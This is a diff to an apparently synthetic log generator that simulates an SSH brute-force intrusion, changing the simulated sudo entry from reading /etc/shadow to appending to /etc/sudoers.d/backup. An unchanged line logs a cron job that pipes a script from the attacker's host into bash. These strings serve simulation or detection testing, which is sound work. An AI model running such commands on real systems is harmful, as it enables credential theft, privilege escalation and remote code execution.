@@ -6,7 +6,7 @@ import { type Attack, second } from './attack.js';
 const authpriv = 10;
 const cron = 9;
 
-/** Passwords are guessed until one fits; then the intruder looks for more rights and leaves a cron job. */
+/** Passwords are guessed until one fits; then the intruder takes more rights and leaves a cron job. */
 export const sshBruteForce: Attack = {
   id: 'ssh-brute-force',
   records(start, random) {
@@ -41,7 +41,8 @@ export const sshBruteForce: Attack = {
       `Accepted password for backup from ${from} port ${random.int(40_000, 60_000)} ssh2`,
     );
     time += 20 * second;
-    const sudo = 'backup : TTY=pts/1 ; PWD=/var/backups ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow';
+    const sudo =
+      'backup : TTY=pts/1 ; PWD=/var/backups ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers.d/backup';
     say(authpriv, 5, 'sudo', sudo);
     time += 30 * second;
     say(cron, 6, 'CRON', `(backup) CMD (curl -fsSL http://${from}/a.sh | bash)`);
